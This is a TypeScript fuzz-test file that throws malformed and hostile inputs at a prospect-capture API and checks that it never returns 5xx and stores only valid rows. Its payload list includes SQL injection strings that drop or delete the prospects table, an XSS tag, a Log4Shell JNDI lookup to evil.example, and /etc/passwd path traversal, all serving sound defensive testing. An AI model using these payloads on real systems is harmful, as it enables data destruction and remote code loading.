import { randomUUID } from "node:crypto";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { HONEYPOT_FIELD } from "~/leads/honeypot";
import { prospectInsertSchema } from "~/leads/schema";
import type { Database } from "../database/open-database";
import { startTestApi, validProspect, type TestApi } from "../test-support/test-api";
import { TEST_DATABASE_TARGETS, type TestDatabase } from "../test-support/test-databases";
import { LEADS_API_PATHS } from "./leads-api";

/**
 * Property-based fuzzing of the public endpoints over real HTTP: whatever arrives (long, unicode,
 * control characters, lone surrogates, injection strings, wrong types, unknown fields, malformed JSON),
 * the answer is 2xx or 4xx, never 5xx, and nothing that breaks the rules ends up in the database.
 */

const NASTY_STRINGS = [
  "",
  "   ",
  "' OR '1'='1",
  "'); drop table prospects; --",
  "Robert'); DELETE FROM prospects WHERE ('1'='1",
  "\\'; select pg_sleep(10); --",
  "$$; drop table prospects; $$",
  "<script>alert(1)</script>",
  "<!channel> <https://evil.example|click>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "../../../../etc/passwd",
  "%00%27",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udfffx",
  "\u202etxt.exe",
  "\uFEFF",
  "😀".repeat(60),
  "é".repeat(256),
  "a".repeat(101),
  "a".repeat(256),
  "a".repeat(1001),
  "a".repeat(2001),
  "null",
  "__proto__",
  "JANE@EXAMPLE.COM",
  "jane@example.com\n",
  "x@y",
];

const nastyString = fc.oneof(
  fc.constantFrom(...NASTY_STRINGS),
  fc.string({ unit: "binary", maxLength: 300 }),
  fc.string({ unit: "grapheme", maxLength: 120 }),
  // Lone surrogates and control characters mixed into ordinary text.
  fc
    .array(
      fc.oneof(
        fc.integer({ min: 0, max: 0x1f }),
        fc.integer({ min: 0xd800, max: 0xdfff }),
        fc.integer({ min: 0x20, max: 0x7e }),
      ),
      { maxLength: 40 },
    )
    .map((codes) => String.fromCharCode(...codes)),
);

const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: nastyString },
  { weight: 1, arbitrary: fc.constantFrom(null, true, 0, -1, 1e308, [], {}, ["a"], { nested: "x" }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

const FIELDS = Object.keys(prospectInsertSchema.shape);

/** Near-valid bodies: a valid prospect with some fields replaced, dropped, or joined by unknown ones. */
const mutatedProspectBody = fc
  .record({
    replaced: fc.dictionary(
      fc.constantFrom(...FIELDS),
      fc.oneof(nastyValue, fc.string({ unit: "grapheme", maxLength: 60 })),
      {
        maxKeys: 2,
      },
    ),
    dropped: fc.oneof(
      { weight: 3, arbitrary: fc.constant<string[]>([]) },
      { weight: 1, arbitrary: fc.subarray(FIELDS, { maxLength: 2 }) },
    ),
    unknown: fc.option(fc.dictionary(fc.string({ maxLength: 12 }), nastyValue, { minKeys: 1, maxKeys: 1 }), {
      freq: 4,
    }),
  })
  .map(({ replaced, dropped, unknown }) => {
    const body: Record<string, unknown> = { ...validProspect(), ...unknown, ...replaced };
    for (const field of dropped) delete body[field];
    return body;
  });

/** Half the bodies are valid (with random but legal text), so the insert path is exercised as much as the refusals. */
const prospectBody = fc.oneof(
  fc
    .record({
      first_name: fc.string({ unit: "grapheme", minLength: 1, maxLength: 100 }),
      company: fc.string({ unit: "grapheme", maxLength: 255 }),
    })
    .map((fields) => ({ ...validProspect(), ...fields }) as Record<string, unknown>),
  mutatedProspectBody,
);

const idempotencyHeader = fc.oneof(
  { weight: 3, arbitrary: fc.constant<Record<string, string>>({}) },
  { weight: 4, arbitrary: fc.constant(null).map(() => ({ "Idempotency-Key": randomUUID() })) },
  {
    weight: 1,
    arbitrary: nastyString
      .filter((value) => /^[\x20-\x7e]*$/.test(value))
      .map((value) => ({ "Idempotency-Key": value })),
  },
);

function isHoneypotFilled(body: Record<string, unknown>): boolean {
  const value = body[HONEYPOT_FIELD];
  return value !== undefined && value !== null && (typeof value !== "string" || value.trim() !== "");
}

async function prospectCount(db: Database): Promise<number> {
  const { rows } = await db.query<{ n: number }>("select count(*)::int as n from prospects");
  return rows[0]?.n ?? 0;
}

for (const target of TEST_DATABASE_TARGETS) {
  describe.skipIf(target.skip)(`fuzzing the public endpoints on ${target.name}`, () => {
    let testDb: TestDatabase;
    let api: TestApi;

    beforeAll(async () => {
      testDb = await target.open();
      api = await startTestApi(testDb.db);
    });
    afterAll(async () => {
      await api?.close();
      await testDb?.cleanup();
    });

    it("answers near-valid contact submissions with 2xx/4xx and stores exactly the valid ones", async () => {
      let expectedStored = 0;
      const before = await prospectCount(testDb.db);
      await fc.assert(
        fc.asyncProperty(prospectBody, idempotencyHeader, async (body, headers) => {
          const response = await api.post(LEADS_API_PATHS.prospects, body, headers);
          expect(response.status, JSON.stringify(response.body)).toBeLessThan(500);
          const key = headers["Idempotency-Key"];
          const keyValid = key === undefined || key.trim() === "" || /^[0-9a-f-]{36}$/i.test(key.trim());
          const honeypot = isHoneypotFilled(body);
          const valid = prospectInsertSchema.safeParse(body).success && keyValid;
          if (honeypot) expect(response.status).toBe(201);
          else if (valid) expect(response.status).toBe(201);
          else expect(response.status).toBe(400);
          if (!honeypot && valid) expectedStored += 1;
        }),
        { numRuns: 200 },
      );
      expect(await prospectCount(testDb.db)).toBe(before + expectedStored);
      // The generator must exercise the insert path, not only the validation errors.
      console.info(`[fuzz] ${target.name}: ${expectedStored} of 200 near-valid submissions were valid and stored`);
      expect(expectedStored).toBeGreaterThan(30);
    });

    it("answers anything sent to any endpoint with 2xx/4xx, never 5xx", async () => {
      const endpoints = Object.values(LEADS_API_PATHS);
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom(...endpoints),
          fc.oneof(
            fc.dictionary(fc.constantFrom(...FIELDS, "email", "list", "source_page", "type", "record"), nastyValue),
            fc.jsonValue(),
          ),
          async (endpoint, body) => {
            const response = await api.post(endpoint, body);
            expect(
              response.status,
              `${endpoint} ${JSON.stringify(body)} -> ${JSON.stringify(response.body)}`,
            ).toBeLessThan(500);
            expect(response.status).toBeGreaterThanOrEqual(200);
          },
        ),
        { numRuns: 150 },
      );
    });

    it("answers malformed JSON and odd content types with 4xx, never 5xx", async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom(...Object.values(LEADS_API_PATHS)),
          fc.oneof(
            fc.string({ unit: "binary", maxLength: 200 }),
            fc.constantFrom(
              "{",
              "}",
              "[",
              '{"a":',
              "{'a': 1}",
              "NaN",
              "undefined",
              '{"email": "\\ud800"}',
              "\u0000",
              '{"__proto__": {"x": 1}}',
            ),
          ),
          fc.constantFrom(
            "application/json",
            "text/plain",
            "application/x-www-form-urlencoded",
            "application/json; charset=utf-16",
            "",
          ),
          async (endpoint, raw, contentType) => {
            const response = await fetch(api.url + endpoint, {
              method: "POST",
              headers: contentType ? { "content-type": contentType } : {},
              body: raw,
            });
            const text = await response.text();
            expect(response.status, `${JSON.stringify(raw)} as ${contentType} -> ${text}`).toBeLessThan(500);
            expect(response.status).toBeGreaterThanOrEqual(200);
          },
        ),
        { numRuns: 150 },
      );
    });

    it("left only rows that satisfy the shared schema and the database rules", async () => {
      const { rows } = await testDb.db.query<Record<string, unknown>>(
        `select first_name, last_name, email, company, message, utm_source, utm_medium, utm_campaign,
                landing_page, referrer, conversion_page, extra_attribution as extra
           from prospects`,
      );
      expect(rows.length).toBeGreaterThan(0);
      for (const row of rows) {
        const reparsed = prospectInsertSchema.safeParse(row);
        expect(reparsed.success, JSON.stringify(row)).toBe(true);
        expect(row.email).toBe(String(row.email).toLowerCase());
      }
    });
  });
}
